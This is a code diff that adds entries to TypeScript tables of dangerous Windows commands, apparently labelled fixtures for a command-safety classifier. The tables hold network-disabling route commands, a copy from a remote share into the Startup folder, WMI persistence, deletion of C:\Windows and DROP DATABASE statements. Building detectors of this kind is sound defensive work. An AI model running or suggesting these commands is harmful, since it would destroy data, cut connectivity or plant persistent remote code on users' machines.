@@ -98,6 +98,7 @@ const NETWORK: readonly (readonly [string, string])[] = [
   ["route -f", "drop-route"],
   ["route delete 0.0.0.0", "drop-route"],
   ["ipconfig /release", "interface-down"],
+  ["route change 0.0.0.0 mask 0.0.0.0 127.0.0.1", "drop-route"],
   ["wmic path win32_networkadapter where index=1 call disable", "interface-down"],
 ];
 
@@ -170,6 +171,14 @@ const CODE: readonly (readonly [string, string])[] = [
   [raw`schtasks /delete /tn * /f`, "remove-schedule"],
   [raw`sc create x binPath= "cmd /c rd /s /q C:\Windows"`, "start-up-code"],
   [raw`copy %0 "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"`, "start-up-code"],
+  [
+    raw`copy /y \\192.0.2.1\share\a.exe "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"`,
+    "start-up-code",
+  ],
+  [
+    raw`wmic /namespace:\\root\subscription path CommandLineEventConsumer create Name="x"`,
+    "scheduled-code",
+  ],
   [raw`psexec \\srv01 -s cmd /c rd /s /q C:\Windows`, "delete-protected"],
   [raw`sqlcmd -S . -Q "DROP DATABASE shop"`, "sql-destroy"],
   [raw`"C:\Program Files\MySQL\bin\mysql.exe" -e "DROP DATABASE shop"`, "sql-destroy"],
